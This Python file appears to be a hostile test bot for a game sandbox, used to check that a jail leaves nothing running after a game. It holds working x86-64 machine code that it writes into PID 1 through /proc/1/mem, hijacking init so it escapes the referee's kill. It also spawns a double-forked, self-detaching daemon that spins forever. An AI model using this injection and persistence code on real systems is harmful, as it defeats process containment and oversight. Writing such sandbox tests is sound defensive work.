"""Takes over its jail's PID 1 and leaves a daemon that outlives its game (issue 44).

At the start of its game it prints, one line each:

- ``pids ...``: the processes of its PID namespace, and ``self N``: its own pid there;
- ``mem``, ``syscall``, ``maps``: whether it may open PID 1's ``/proc/1/mem`` for writing and
  read its ``/proc/1/syscall`` and ``/proc/1/maps`` (``OK``, ``REFUSED <errno>``, or ``SELF``
  where PID 1 is the bot's own process);
- ``init ...``: where PID 1 is another process whose memory it may write (a normal user's jail
  with bubblewrap's own init), it writes at init's program counter (read from
  ``/proc/1/syscall``) 30 bytes of x86-64 code that call ``setsid()`` and
  ``prctl(PR_SET_PDEATHSIG, 0)`` and then ``pause()`` forever, and wakes init with an orphan
  that dies at once: init leaves the session the referee kills, forgets to die with its parent,
  and keeps the namespace alive (``TAKEN``);
- ``daemon setsid ... pdeathsig ...``: a double-forked daemon in a session of its own (where
  allowed) that clears its own parent-death signal (where allowed) and spins for ever.

A sandbox that holds leaves nothing of the game running once it is over.
"""

import contextlib
import ctypes
import os

PR_SET_PDEATHSIG = 1
libc = ctypes.CDLL(None, use_errno=True)
# setsid(); prctl(PR_SET_PDEATHSIG, 0); for (;;) pause();
CODE = bytes.fromhex("b870000000" "0f05"           # mov eax, SYS_setsid; syscall
                     "bf01000000" "31f6"           # mov edi, PR_SET_PDEATHSIG; xor esi, esi
                     "b89d000000" "0f05"           # mov eax, SYS_prctl; syscall
                     "b822000000" "0f05" "ebf7")   # loop: mov eax, SYS_pause; syscall; jmp


def attempt(path, mode):
    if os.getpid() == 1:
        return "SELF"
    try:
        with open(path, mode, buffering=0) as f:
            if mode == "rb":
                f.read()
    except OSError as exc:
        return f"REFUSED {exc.errno}"
    return "OK"


def orphan(then):
    """Run ``then`` in a grandchild whose parent exits at once: init adopts it."""
    pid = os.fork()
    if pid == 0:
        try:
            if os.fork() == 0:
                then()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def take_over_init():
    if os.getpid() == 1:
        return "SELF"
    if os.uname().machine != "x86_64":
        return "SKIPPED (x86-64 code)"
    try:
        with open("/proc/1/syscall") as f:
            fields = f.read().split()
        pc = int(fields[-1], 16)
        with open("/proc/1/mem", "r+b", buffering=0) as mem:
            mem.seek(pc)
            mem.write(CODE)
    except (OSError, ValueError, IndexError) as exc:
        return f"REFUSED {getattr(exc, 'errno', exc)}"
    orphan(lambda: os._exit(0))  # init's wait() returns into the code
    return "TAKEN"


def daemon(report):
    setsid = pdeathsig = "OK"
    try:
        os.setsid()
    except OSError as exc:
        setsid = f"REFUSED {exc.errno}"
    if libc.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0) != 0:
        pdeathsig = f"REFUSED {ctypes.get_errno()}"
    os.write(report, f"daemon setsid {setsid} pdeathsig {pdeathsig}\n".encode())
    os.close(report)
    while True:
        pass


class InitTaker:
    def start(self, info):
        pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
        print("pids", *pids)
        print("self", os.getpid())
        print("mem", attempt("/proc/1/mem", "r+b"))
        print("syscall", attempt("/proc/1/syscall", "rb"))
        print("maps", attempt("/proc/1/maps", "rb"))
        print("init", take_over_init(), flush=True)
        read, write = os.pipe()
        orphan(lambda: daemon(write))
        os.close(write)
        with contextlib.suppress(OSError), os.fdopen(read) as said:
            print(said.read().strip(), flush=True)

    def act(self, observation, legal_actions):
        return legal_actions[0]
